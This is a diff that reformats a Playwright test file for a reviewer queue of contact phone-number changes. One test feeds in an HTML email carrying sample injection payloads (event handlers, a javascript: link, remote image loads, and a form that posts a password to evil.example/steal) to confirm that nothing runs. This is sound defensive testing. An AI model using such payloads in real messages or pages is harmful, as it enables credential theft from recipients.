@@ -3,9 +3,16 @@ import { openQueueFor, postMessage, postPhoneChanges, uniqueExchange } from "./r
 
 test.use({ role: "reviewer" });
 
-test("evidence is highlighted and linked both ways; edit-and-approve keeps both values", async ({ page, request }) => {
+test("evidence is highlighted and linked both ways; edit-and-approve keeps both values", async ({
+  page,
+  request,
+}) => {
   const exchange = uniqueExchange();
-  await postMessage(request, { contact: 40, subject: "New phone number", text: `Hi,\n\nmy new phone number is (628) ${exchange}-0142. Thanks!` });
+  await postMessage(request, {
+    contact: 40,
+    subject: "New phone number",
+    text: `Hi,\n\nmy new phone number is (628) ${exchange}-0142. Thanks!`,
+  });
   await openQueueFor(page, { exchange, count: 1 });
   await page.keyboard.press("j");
   await page.keyboard.press("Enter");
@@ -73,7 +80,10 @@ test("fields of one change set are approved and rejected one by one", async ({ p
   await expect(history.locator('[data-action="change.approved"]')).toHaveCount(1);
 });
 
-test("an HTML email with a script, an event handler, a remote image and a form runs and loads nothing", async ({ page, request }) => {
+test("an HTML email with a script, an event handler, a remote image and a form runs and loads nothing", async ({
+  page,
+  request,
+}) => {
   const remote: string[] = [];
   page.on("request", (r) => {
     if (r.url().includes("evil.example")) remote.push(r.url());
@@ -92,7 +102,12 @@ test("an HTML email with a script, an event handler, a remote image and a form r
     <div style="background:url(http://evil.example/bg.png)">styled</div>
     <form action="http://evil.example/steal" method="post"><input name="password" autofocus onfocus="alert('focus ran')"><button>Send</button></form>
     <a href="javascript:alert('link ran')">click me</a>`;
-  await postMessage(request, { contact: 42, subject: "HTML mail", text: `Hello, my new phone number is (628) ${exchange}-0160.`, html });
+  await postMessage(request, {
+    contact: 42,
+    subject: "HTML mail",
+    text: `Hello, my new phone number is (628) ${exchange}-0160.`,
+    html,
+  });
   await openQueueFor(page, { exchange, count: 1 });
   await page.getByTestId("queue-row").getByRole("link").click();
   await expect(page.getByTestId("proposed-change")).toBeVisible();
@@ -118,7 +133,10 @@ test("an HTML email with a script, an event handler, a remote image and a form r
   await page.screenshot({ path: "test-results/screens/html-email.png", fullPage: true });
 });
 
-test("j and k walk the queue the item was opened from, and Esc returns to it with its filters", async ({ page, request }) => {
+test("j and k walk the queue the item was opened from, and Esc returns to it with its filters", async ({
+  page,
+  request,
+}) => {
   const exchange = uniqueExchange();
   await postPhoneChanges(request, { exchange, contacts: [41, 42, 43] });
   await openQueueFor(page, { exchange, count: 3 });
